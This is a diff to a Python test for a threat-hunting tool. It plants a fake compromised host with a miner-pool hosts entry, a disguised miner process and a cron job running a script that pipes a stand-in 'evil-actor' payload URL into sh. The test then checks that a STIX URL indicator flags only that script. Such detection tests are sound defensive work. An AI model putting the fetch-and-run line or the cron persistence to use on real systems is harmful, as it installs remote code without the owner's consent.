@@ -145,6 +145,17 @@ def planted(args):
                os.path.join(units, "multi-user.target.wants/sysupdate.service"))
     with open(os.path.join(root, "etc/hosts"), "w") as f:
         f.write("127.0.0.1 localhost\n45.76.185.56 xmr.pool.minergate.com\n")
+    # A downloader on a shared host (code hosting): the URL is in the script cron runs, and
+    # another cron entry fetches another file from the same host, which must not be flagged.
+    os.makedirs(os.path.join(root, "usr/local/bin"))
+    with open(os.path.join(root, "usr/local/bin/sync-time.sh"), "w") as f:
+        f.write("#!/bin/sh\ncurl -fsSL https://raw.githubusercontent.com/evil-actor/payloads/"
+                "main/stage2.sh | sh\n")
+    with open(os.path.join(root, "etc/cron.d/sync-time"), "w") as f:
+        f.write("*/5 * * * * root /bin/sh /usr/local/bin/sync-time.sh\n")
+    with open(os.path.join(root, "etc/cron.d/docs"), "w") as f:
+        f.write("0 3 * * * root curl -fsSL -o /tmp/README.rst "
+                "https://raw.githubusercontent.com/python/cpython/main/README.rst\n")
 
     # The running part: a shell that starts the "miner" (and would restart it), a listener.
     miner = os.path.join(work, "bin", "kdevtmpfsi")
@@ -220,7 +231,13 @@ def planted(args):
                             "created": "2026-11-01T00:00:00Z", "modified": "2026-11-01T00:00:00Z",
                             "valid_from": "2026-11-01T00:00:00Z", "name": "Pool names",
                             "pattern": "[domain-name:value = 'p1.qsd2xjpzfky.site'] OR "
-                                       "[process:name MATCHES '^kdev.*']"}]}, f)
+                                       "[process:name MATCHES '^kdev.*']"},
+                           {"type": "indicator", "spec_version": "2.1", "pattern_type": "stix",
+                            "id": "indicator--6f0c1d7e-52a4-4c39-8a51-0d3c2b1a9e77",
+                            "created": "2026-11-01T00:00:00Z", "modified": "2026-11-01T00:00:00Z",
+                            "valid_from": "2026-11-01T00:00:00Z", "name": "Stage 2 download",
+                            "pattern": "[url:value = 'https://raw.githubusercontent.com/"
+                                       "evil-actor/payloads/main/stage2.sh']"}]}, f)
         rc, out, err = run(args, "hunt", "--root", root, "--no-builtin", "--stix", bundle, "--json")
         stix = [r for r in records(out) if r["event"]["dataset"] == "otguard.hunt.finding"]
         check(rc == 1 and any(f.get("file", {}).get("path") == "/var/tmp/.x/kdevtmpfsi"
@@ -229,6 +246,14 @@ def planted(args):
                   for f in stix),
               "a STIX bundle's file hash and domain are hunted " +
               json.dumps([f["otguard"]["hunt"]["object"] for f in stix]))
+        urls = [f for f in stix if f["rule"]["id"].endswith("6f0c1d7e-52a4-4c39-8a51-0d3c2b1a9e77")]
+        check([f["otguard"]["hunt"]["object"] for f in urls] ==
+              ["script /usr/local/bin/sync-time.sh"] and
+              urls[0]["otguard"]["script"]["used_by"].startswith("cron"),
+              "a URL on a shared host is found in the script cron runs, and only there (not the "
+              "host's other URL in another cron entry) " +
+              json.dumps([[f["otguard"]["hunt"]["object"], f["otguard"].get("script")]
+                          for f in urls]))
         check("left out: process:name MATCHES '^kdev.*'" in err,
               f"the STIX part a host cannot express is reported: {err.strip()}")
 
